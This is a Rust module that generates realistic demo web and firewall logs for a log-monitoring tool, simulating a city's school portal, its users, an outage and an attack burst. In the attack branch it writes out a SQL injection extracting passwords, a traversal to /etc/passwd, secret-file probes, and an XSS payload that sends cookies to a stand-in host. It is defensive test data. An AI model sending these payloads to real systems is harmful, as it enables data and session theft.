//! A generator of realistic ENT traffic for `vigie demo`: the city's 188 schools, their pupils,
//! parents and teachers using the ENT (Beneylu School 3 URL shapes), the firewall in front, and
//! on a ten-minute cycle one attack burst and one outage of the ENT.
//!
//! It is a [`Source`] like a log file: record `n` is a pure function of the seed and `n`, and
//! its timestamp is `epoch + n × period`, so a replay after a crash yields the very same lines
//! (and the same event ids). Lines are written in the formats real servers write — an Apache
//! `LogFormat` with the client port, netfilter kernel lines — and go through the real parsers.

use std::net::Ipv4Addr;
use std::sync::Arc;
use std::time::Duration;

use jiff::tz::TimeZone;
use jiff::{SignedDuration, Timestamp};
use rand::rngs::StdRng;
use rand::{RngExt, SeedableRng};

use super::{Checkpoint, Source, SourceError};
use crate::pipe::RawRecord;

/// The Apache `LogFormat` the demo's web server writes: Debian's `vhost_combined` plus the
/// client's source port (`%{remote}p`, required by decree 2021-1362 behind carrier-grade NAT)
/// and the service time in microseconds (`%D`).
pub const WEB_LOG_FORMAT: &str = r#"%v:%p %h %{remote}p %l %u %t "%r" %>s %O "%{Referer}i" "%{User-Agent}i" %D"#;

/// The public name of the demo ENT.
pub const ENT_HOST: &str = "ent.ville-exemple.fr";

/// One school of the district.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct School {
    /// The national school code (UAI, formerly RNE): 7 digits and a check letter.
    pub uai: String,
    pub name: String,
    pub director_email: String,
    /// The school's network: its pupils and teachers reach the ENT from this /28.
    pub network: Ipv4Addr,
}

const PATRONS: &[&str] = &[
    "Jean Jaurès",
    "Jules Ferry",
    "Victor Hugo",
    "Louise Michel",
    "Marie Curie",
    "Jean Moulin",
    "Paul Bert",
    "Louis Pasteur",
    "Condorcet",
    "Jacques Prévert",
    "Anatole France",
    "Simone Veil",
    "Lucie Aubrac",
    "Jean de La Fontaine",
    "Charles Perrault",
    "Antoine de Saint-Exupéry",
    "Françoise Dolto",
    "George Sand",
    "Colette",
    "Olympe de Gouges",
    "Jean Zay",
    "Molière",
    "Paul Langevin",
    "Irène Joliot-Curie",
    "Aimé Césaire",
    "Robert Desnos",
    "Marcel Pagnol",
    "Albert Camus",
    "Émile Zola",
    "Romain Rolland",
    "Anne Frank",
    "Germaine Tillion",
    "Joséphine Baker",
    "Les Tilleuls",
    "Les Marronniers",
    "Les Acacias",
    "Le Petit Prince",
    "Les Cerisiers",
    "La Roseraie",
    "Le Bois Joli",
    "Pierre Perret",
    "Alphonse Daudet",
    "Gaston Bachelard",
    "Frédéric Mistral",
    "Henri Wallon",
    "Maurice Ravel",
    "Claude Debussy",
];
const KINDS: &[&str] = &["École élémentaire", "École maternelle", "École primaire", "Groupe scolaire"];
const FIRST_NAMES: &[&str] = &[
    "lea", "lucas", "emma", "gabriel", "jade", "louis", "chloe", "raphael", "ines", "arthur", "lina", "hugo", "mila",
    "jules", "rose", "adam", "anna", "nathan", "zoe", "noah", "amelie", "sacha", "manon", "ethan", "julia", "tom",
    "camille", "leo", "sarah", "yanis",
];
const LAST_NAMES: &[&str] = &[
    "martin", "bernard", "dubois", "thomas", "robert", "richard", "petit", "durand", "leroy", "moreau", "simon",
    "laurent", "lefebvre", "michel", "garcia", "david", "bertrand", "roux", "vincent", "fournier", "morel", "girard",
    "andre", "mercier", "dupont", "lambert", "bonnet", "francois", "martinez", "nguyen", "benali", "diallo", "haddad",
    "kone", "rousseau",
];
const BROWSERS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (iPad; CPU OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; SM-A546B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
];
/// Check letters of the UAI: the 7-digit number modulo 23 indexes this alphabet (no I, O, Q).
const UAI_LETTERS: &[u8; 23] = b"ABCDEFGHJKLMNPRSTUVWXYZ";

/// The 188 schools of the demo city, always the same.
pub fn schools() -> Vec<School> {
    (0..188u32)
        .map(|i| {
            let number = 692_000 + i * 7 + 11; // département 069, numbers spread like real ones
            let uai = format!("0{number:06}{}", UAI_LETTERS[(number % 23) as usize] as char);
            let patron = PATRONS[i as usize % PATRONS.len()];
            let kind = KINDS[(i as usize / PATRONS.len()) % KINDS.len()];
            let name = format!("{kind} {patron}");
            let director_email = format!("ce.{}@ac-exemple.fr", uai.to_lowercase());
            let network = Ipv4Addr::new(10, 20, (i / 16) as u8, ((i % 16) * 16) as u8);
            School { uai, name, director_email, network }
        })
        .collect()
}

/// Which demo stream a source produces.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum DemoStream {
    /// The ENT's Apache access log, in [`WEB_LOG_FORMAT`].
    Web,
    /// The firewall's netfilter log lines, as the kernel writes them to syslog.
    Firewall,
}

/// The timeline of one demo cycle, from the start of the cycle.
#[derive(Debug, Clone)]
pub struct Scenario {
    pub cycle: Duration,
    /// An attacker probes the ENT (SQL injection, traversal, scanners, brute force) and port-scans the firewall.
    pub attack: std::ops::Range<Duration>,
    /// The ENT answers 503 to everyone.
    pub outage: std::ops::Range<Duration>,
}

impl Default for Scenario {
    fn default() -> Self {
        Scenario {
            cycle: Duration::from_secs(600),
            attack: Duration::from_secs(12)..Duration::from_secs(27),
            outage: Duration::from_secs(35)..Duration::from_secs(95),
        }
    }
}

/// The generator, as a [`Source`].
#[derive(Debug)]
pub struct DemoSource {
    id: Arc<str>,
    stream: DemoStream,
    seed: u64,
    per_second: u32,
    scenario: Scenario,
    schools: Vec<School>,
    epoch: Timestamp,
    next: u64,
    /// Records after the resumed checkpoint that must be replayed exactly before any skip.
    replay_until: u64,
    tz: TimeZone,
}

impl DemoSource {
    pub fn new(id: impl Into<Arc<str>>, stream: DemoStream, per_second: u32, scenario: Scenario) -> DemoSource {
        DemoSource {
            id: id.into(),
            stream,
            seed: match stream {
                DemoStream::Web => 0x454e_5457_4542,
                DemoStream::Firewall => 0x454e_5446_5700,
            },
            per_second: per_second.max(1),
            scenario,
            schools: schools(),
            epoch: Timestamp::now(),
            next: 0,
            replay_until: 0,
            tz: TimeZone::get("Europe/Paris").unwrap_or(TimeZone::UTC),
        }
    }

    fn identity(&self) -> String {
        format!("demo-v1:{:?}:{}:{}", self.stream, self.per_second, self.epoch.as_millisecond())
    }

    fn time_of(&self, n: u64) -> Timestamp {
        let nanos = (n as i128 * 1_000_000_000) / self.per_second as i128;
        self.epoch + SignedDuration::from_nanos(nanos as i64)
    }

    fn due(&self, now: Timestamp) -> u64 {
        let elapsed = now.duration_since(self.epoch).as_nanos().max(0);
        (elapsed * self.per_second as i128 / 1_000_000_000) as u64
    }

    /// The line of record `n`: a pure function of the seed and `n`.
    pub fn line(&self, n: u64) -> String {
        let mut rng = StdRng::seed_from_u64(self.seed ^ n.wrapping_mul(0x9E37_79B9_7F4A_7C15));
        let at = self.time_of(n);
        let in_cycle = Duration::from_nanos(
            (at.duration_since(self.epoch).as_nanos().max(0) as u128 % self.scenario.cycle.as_nanos()) as u64,
        );
        let phase = if self.scenario.attack.contains(&in_cycle) {
            Phase::Attack
        } else if self.scenario.outage.contains(&in_cycle) {
            Phase::Outage
        } else {
            Phase::Normal
        };
        let local = at.to_zoned_datetime(self.tz.clone());
        match self.stream {
            DemoStream::Web => web_line(&mut rng, &self.schools, phase, &local),
            DemoStream::Firewall => firewall_line(&mut rng, phase, &local),
        }
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Phase {
    Normal,
    Attack,
    Outage,
}

/// The attacker of the demo (TEST-NET-3, never routed).
const ATTACKER: &str = "203.0.113.66";

fn web_line(rng: &mut StdRng, schools: &[School], phase: Phase, local: &jiff::ZonedDateTime) -> String {
    let school_idx = rng.random_range(0..schools.len());
    let school = &schools[school_idx];
    let role = rng.random_range(0..100u32);
    let first = FIRST_NAMES[rng.random_range(0..FIRST_NAMES.len())];
    let last = LAST_NAMES[rng.random_range(0..LAST_NAMES.len())];
    // Pupils and teachers connect from school (behind its NAT, hence the port); parents from home.
    let (user, ip) = if role < 75 {
        let host = rng.random_range(1..15u8);
        let o = school.network.octets();
        let user = if role < 60 { format!("{first}.{last}") } else { format!("{first}.{last}.ens") };
        (user, Ipv4Addr::new(o[0], o[1], o[2], o[3] + host).to_string())
    } else {
        let ip = Ipv4Addr::new(
            [78, 90, 86, 92, 176, 82][rng.random_range(0..6)],
            rng.random_range(1..255),
            rng.random_range(0..255),
            rng.random_range(1..255),
        );
        (format!("{first}.{last}.par"), ip.to_string())
    };
    let port: u16 = rng.random_range(1024..65535);
    let ua = BROWSERS[rng.random_range(0..BROWSERS.len())];
    let mut referer = format!("https://{ENT_HOST}/ent/");

    let attack = phase == Phase::Attack && rng.random_range(0..100) < 40;
    let (method, path, status, bytes, user, ip, ua) = if attack {
        let (method, path, status, ua): (&str, String, u16, &str) = match rng.random_range(0..7u32) {
            0 => (
                "GET",
                format!(
                    "/ent/blog/article/article-{}?id=1%27%20UNION%20SELECT%20login,password%20FROM%20user--",
                    rng.random_range(1..900)
                ),
                500,
                "sqlmap/1.8.11#stable (https://sqlmap.org)",
            ),
            1 => (
                "GET",
                "/ent/media_download.php?filename=..%2F..%2F..%2F..%2Fetc%2Fpasswd".into(),
                403,
                "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000640)",
            ),
            2 => (
                "GET",
                ["/.env", "/.git/config", "/ent/app_dev.php", "/ent/_profiler", "/phpmyadmin/index.php", "/backup.sql"]
                    [rng.random_range(0..6)]
                .into(),
                404,
                "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000123)",
            ),
            3 => (
                "GET",
                format!(
                    "/ent/blog/recherche?q=%3Cscript%3Edocument.location%3D%27http%3A%2F%2Fevil.example%2F%27%2Bdocument.cookie%3C%2Fscript%3E&p={}",
                    rng.random_range(1..9)
                ),
                200,
                "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
            ),
            _ => ("POST", "/oauth/v2/auth_login_check".into(), 401, "python-requests/2.32.3"),
        };
        if path == "/oauth/v2/auth_login_check" {
            referer = format!("https://{ENT_HOST}/oauth/v2/auth_login");
        }
        let victim = format!("{first}.{last}.ens");
        (
            method,
            path,
            status,
            rng.random_range(300..2000u32),
            if method == "POST" { victim } else { "-".into() },
            ATTACKER.to_owned(),
            ua,
        )
    } else {
        // Beneylu School 3 routes: everything under /ent, the Angular app's JSON API under
        // /ent/api/1.0, logins through the city's OAuth server then the /ent/login_check callback.
        let pick = rng.random_range(0..100u32);
        let (method, path, mut status) = match pick {
            0..=5 => ("GET", "/ent/".to_owned(), 200),
            6..=9 => {
                ("POST", "/oauth/v2/auth_login_check".to_owned(), if rng.random_range(0..100) < 5 { 401 } else { 302 })
            }
            10..=13 => {
                ("GET", format!("/ent/login_check?code={:x}&state={:x}", rng.random::<u64>(), rng.random::<u32>()), 302)
            }
            14..=15 => ("GET", "/ent/disconnect".to_owned(), 302),
            16..=25 => ("GET", "/ent/classe/".to_owned(), 200),
            26..=33 => ("GET", "/ent/blog/".to_owned(), 200),
            34..=42 => (
                "GET",
                format!(
                    "/ent/blog/article/{}",
                    [
                        "sortie-au-musee",
                        "carnaval-de-l-ecole",
                        "la-classe-verte",
                        "fete-de-fin-d-annee",
                        "nos-plantations",
                        "visite-de-la-caserne"
                    ][rng.random_range(0..6)]
                ),
                200,
            ),
            43..=44 => ("POST", "/ent/blog/gestion/nouvel-article/terminer".to_owned(), 302),
            45..=46 => ("POST", "/ent/commentaire/ajouter".to_owned(), 200),
            47..=52 => ("GET", "/ent/app/".to_owned(), 200),
            53..=57 => {
                ("GET", format!("/ent/api/1.0/messaging/conversations/{}.json", rng.random_range(1..90000)), 200)
            }
            58..=59 => ("POST", "/ent/api/1.0/messaging/messages.json".to_owned(), 201),
            60..=64 => ("GET", format!("/ent/mediatheque-2/download/{}", rng.random_range(1..50000)), 302),
            65..=67 => ("GET", "/ent/cahier-de-texte/".to_owned(), 200),
            68..=69 => ("GET", "/ent/calendrier/".to_owned(), 200),
            70..=71 => ("GET", "/ent/profil".to_owned(), 200),
            72..=83 => ("GET", "/ent/api/1.0/messaging/counters.json".to_owned(), 200),
            84..=89 => ("GET", "/ent/api/1.0/users/me/applications.json".to_owned(), 200),
            90..=97 => (
                "GET",
                format!(
                    "/ent/medias/{}",
                    ["js/tinymce/beneylu.js", "css/commons/tiny-mce.css", "images/icons/categories/blog.png"]
                        [rng.random_range(0..3)]
                ),
                304,
            ),
            _ => ("GET", format!("/ent/blog/article/article-{}", rng.random_range(90000..99999)), 404),
        };
        if phase == Phase::Outage && !path.starts_with("/ent/medias/") {
            status = 503;
        }
        let bytes = match status {
            200 => rng.random_range(2_000..60_000u32),
            302 | 304 => rng.random_range(200..600),
            _ => rng.random_range(300..1200),
        };
        let user = if path == "/ent/" && status == 200 && pick < 6 { "-".into() } else { user };
        (method, path, status, bytes, user, ip, ua)
    };
    let micros: u32 =
        if status == 503 { rng.random_range(30_000_000..30_100_000) } else { rng.random_range(8_000..450_000) };
    let when = local.strftime("%d/%b/%Y:%H:%M:%S %z");
    format!(
        "{ENT_HOST}:443 {ip} {port} - {user} [{when}] \"{method} {path} HTTP/1.1\" {status} {bytes} \"{referer}\" \"{ua}\" {micros}"
    )
}

fn firewall_line(rng: &mut StdRng, phase: Phase, local: &jiff::ZonedDateTime) -> String {
    let scan = phase == Phase::Attack && rng.random_range(0..100) < 70;
    let (src, dport, proto) = if scan {
        (ATTACKER.to_owned(), rng.random_range(1..10_000u16), "TCP")
    } else {
        let src = Ipv4Addr::new(
            [45, 185, 193, 89, 141, 64][rng.random_range(0..6)],
            rng.random_range(1..255),
            rng.random_range(0..255),
            rng.random_range(1..255),
        );
        let dport = [22u16, 23, 3389, 445, 3306, 6379, 5672, 8080, 25, 53][rng.random_range(0..10)];
        (src.to_string(), dport, if dport == 53 { "UDP" } else { "TCP" })
    };
    let spt: u16 = rng.random_range(1024..65535);
    let id: u16 = rng.random();
    let ttl: u8 = rng.random_range(40..120);
    let uptime = local.timestamp().as_second() % 10_000_000;
    let when = local.strftime("%b %e %H:%M:%S");
    let tail = if proto == "TCP" {
        format!("PROTO=TCP SPT={spt} DPT={dport} WINDOW=1024 RES=0x00 SYN URGP=0")
    } else {
        format!("PROTO=UDP SPT={spt} DPT={dport} LEN=48")
    };
    format!(
        "{when} fw-ent kernel: [{uptime}.{:06}] DROP_IN: IN=eth0 OUT= MAC=52:54:00:12:34:56:52:54:00:65:43:21:08:00 \
         SRC={src} DST=192.0.2.10 LEN=44 TOS=0x00 PREC=0x00 TTL={ttl} ID={id} {tail}",
        rng.random_range(0..1_000_000u32)
    )
}

impl Source for DemoSource {
    fn id(&self) -> &Arc<str> {
        &self.id
    }

    fn resume(&mut self, checkpoint: Option<&Checkpoint>) -> Result<(), SourceError> {
        let prefix = format!("demo-v1:{:?}:{}:", self.stream, self.per_second);
        if let Some(cp) = checkpoint {
            match cp.identity.strip_prefix(&prefix).and_then(|ms| ms.parse::<i64>().ok()) {
                Some(ms) => {
                    self.epoch = Timestamp::from_millisecond(ms).unwrap_or(self.epoch);
                    self.next = cp.position;
                    // Whatever was in flight at a crash lies within this many records: replay it as it was.
                    self.replay_until = cp.position + 64 * 1024;
                }
                None => tracing::info!(source = %self.id, "demo settings changed; starting a new run"),
            }
        }
        Ok(())
    }

    async fn read(&mut self, max: usize) -> Result<Option<Vec<RawRecord>>, SourceError> {
        let now = Timestamp::now();
        let mut due = self.due(now);
        if self.next >= self.replay_until && due > self.next + self.per_second as u64 * 60 {
            // Far behind (Vigie was stopped for a while): the traffic of that gap was never
            // seen; jump to the present rather than replaying hours of it.
            tracing::info!(source = %self.id, skipped = due - self.next, "demo traffic resumes at the present");
            self.next = due;
        }
        due = due.min(self.next + max as u64);
        let records = (self.next..due)
            .map(|n| RawRecord { source: self.id.clone(), position: n, file: None, line: self.line(n) })
            .collect();
        self.next = due;
        Ok(Some(records))
    }

    fn checkpoint(&self) -> Checkpoint {
        Checkpoint { position: self.next, identity: self.identity() }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_city_has_188_distinct_schools_with_valid_uai() {
        let all = schools();
        assert_eq!(all.len(), 188);
        let uais: std::collections::HashSet<_> = all.iter().map(|s| s.uai.clone()).collect();
        assert_eq!(uais.len(), 188);
        for s in &all {
            let number: u32 = s.uai[..7].parse().unwrap();
            assert_eq!(s.uai.as_bytes()[7], UAI_LETTERS[(number % 23) as usize], "{}", s.uai);
        }
        let names: std::collections::HashSet<_> = all.iter().map(|s| s.name.clone()).collect();
        assert_eq!(names.len(), 188, "school names are unique");
        assert!(all.iter().any(|s| s.name == "École élémentaire Jacques Prévert"));
    }

    #[test]
    fn a_record_is_a_pure_function_of_its_position() {
        let mut a = DemoSource::new("w", DemoStream::Web, 100, Scenario::default());
        let b = DemoSource::new("w", DemoStream::Web, 100, Scenario::default());
        a.epoch = b.epoch;
        for n in [0, 1, 999, 123_456] {
            assert_eq!(a.line(n), b.line(n));
        }
        assert_ne!(a.line(1), a.line(2));
    }

    #[test]
    fn the_cycle_has_an_attack_and_an_outage() {
        let src = DemoSource::new("w", DemoStream::Web, 100, Scenario::default());
        let lines: Vec<String> = (0..100 * 120).map(|n| src.line(n)).collect();
        assert!(lines[..1200].iter().all(|l| !l.contains(ATTACKER)), "quiet first seconds");
        assert!(lines[1200..2700].iter().filter(|l| l.contains(ATTACKER)).count() > 300);
        let outage = &lines[3500..9500];
        let unavailable = outage.iter().filter(|l| l.contains("\" 503 ")).count();
        assert!(unavailable * 10 > outage.len() * 9, "{unavailable} of {}", outage.len());
        assert!(lines[9600..].iter().all(|l| !l.contains("\" 503 ")));
    }

    #[test]
    fn resuming_replays_the_same_lines_with_the_same_times() {
        let mut first = DemoSource::new("w", DemoStream::Firewall, 10, Scenario::default());
        first.resume(None).unwrap();
        first.next = 500;
        let cp = first.checkpoint();
        let mut second = DemoSource::new("w", DemoStream::Firewall, 10, Scenario::default());
        second.resume(Some(&cp)).unwrap();
        assert_eq!(second.next, 500);
        assert_eq!(second.line(500), first.line(500));
        assert!(second.line(500).contains("kernel: ["));
    }
}
